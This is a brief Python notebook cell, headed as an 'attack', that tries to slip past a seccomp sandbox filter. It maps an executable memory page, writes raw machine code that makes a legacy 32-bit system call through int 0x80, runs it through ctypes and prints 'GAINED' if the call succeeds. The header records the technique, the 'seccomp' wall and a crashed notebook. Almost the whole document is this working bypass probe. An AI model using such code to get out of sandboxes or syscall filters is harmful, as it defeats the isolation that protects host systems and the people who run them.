# /// attack
# does = "makes calls as a 32-bit program, whose numbers no filter lists"
# wall = "seccomp"
# notebook = "crashed"
# ///
# %%
import ctypes, mmap
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("GAINED" if call() > 0 else "nothing")
